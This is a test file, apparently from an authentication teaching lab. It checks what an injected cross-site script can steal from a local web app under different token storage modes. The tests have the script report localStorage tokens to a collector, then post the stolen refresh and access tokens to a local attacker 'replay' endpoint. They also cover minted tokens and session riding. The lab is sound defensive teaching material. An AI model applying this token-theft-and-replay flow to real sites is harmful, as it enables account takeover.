/**
 * XSS by storage mode in Chromium: the lab injects the attacker site's script (served from
 * localhost, another site) into the web app's page; it reports to the collector there. Then the
 * victim's tab is closed and the attacker's server replays what it got.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  attackPanel,
  endAttackSessions,
  openAttacks,
  readLoot,
  runAction,
} from './helpers/attacks-page.ts';
import { launchBrowser, saveScreenshot } from './helpers/browser.ts';
import { ATTACKER_PORT, HOST } from './helpers/ports.ts';

let browser: Browser;
let page: Page;

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});
beforeEach(async () => {
  page = await openAttacks(browser);
});
afterEach(async () => {
  await endAttackSessions();
});

type Loot = Awaited<ReturnType<typeof readLoot>>;
const dataOf = (loot: Loot, kind: string) =>
  loot.filter((entry) => entry.kind === kind).at(-1)?.data as Record<string, unknown> | undefined;

/** The attacker's server uses a stolen credential: no victim tab involved. */
async function replay(body: Record<string, string>): Promise<{ status: number; body: unknown }> {
  const response = await fetch(`http://${HOST}:${ATTACKER_PORT}/replay`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(body),
  });
  return (await response.json()) as { status: number; body: unknown };
}

async function injectWith(storage: 'memory' | 'documents'): Promise<Loot> {
  await attackPanel(page, 'xss').locator(`input[name="xss-storage"][value="${storage}"]`).check();
  await runAction(page, 'xss', 'xss-inject');
  expect(await page.locator('script[data-injected="xss"]').count()).toBe(1);
  return readLoot();
}

describe('XSS by storage mode', () => {
  it("documents' mode: both tokens stolen, and the refresh token works after the tab is closed", async () => {
    const loot = await injectWith('documents');
    const stored = dataOf(loot, 'localStorage');
    expect(typeof stored?.access_token).toBe('string');
    expect(typeof stored?.refresh_token).toBe('string');
    await saveScreenshot(page, 'attack-xss-documents');
    await page.context().close();

    const refreshed = await replay({
      api: 'jwt',
      route: 'POST /refresh',
      refresh_token: String(stored?.refresh_token),
    });
    expect(refreshed.status).toBe(200);
    const me = await replay({ api: 'jwt', route: 'GET /me', bearer: String(stored?.access_token) });
    expect(me.status).toBe(200);
  });

  it('recommended mode: the refresh token is never read, but the script mints access tokens that outlive the tab', async () => {
    const loot = await injectWith('memory');
    expect(dataOf(loot, 'localStorage')).not.toHaveProperty('access_token');
    expect(dataOf(loot, 'localStorage')).not.toHaveProperty('refresh_token');
    expect(loot.find((entry) => entry.kind === 'document.cookie')?.data).not.toContain(
      'authlab.rt',
    );
    const minted = dataOf(loot, 'minted-access-token') as {
      status: number;
      body: { access_token: string };
    };
    expect(minted.status).toBe(200);
    expect(JSON.stringify(loot)).not.toMatch(/refresh_token/);

    await runAction(page, 'xss', 'xss-replay');
    const replayed = attackPanel(page, 'xss').locator('[data-replay="GET /me"]');
    expect(await replayed.getAttribute('data-status')).toBe('200');
    await saveScreenshot(page, 'attack-xss-memory');
    await page.context().close();

    const me = await replay({ api: 'jwt', route: 'GET /me', bearer: minted.body.access_token });
    expect(me.status).toBe(200);
  });

  it('session cookie: nothing to steal, but the script acts as the user while the page is open', async () => {
    const loot = await injectWith('memory');
    expect(String(loot.find((entry) => entry.kind === 'document.cookie')?.data)).not.toContain(
      'authlab.sid',
    );
    const riding = dataOf(loot, 'session-riding') as {
      status: number;
      body: { user: { name: string } };
    };
    expect(riding.status).toBe(200);
    expect(riding.body.user.name).toBe('John Doe');
    await page.context().close();
  });
});
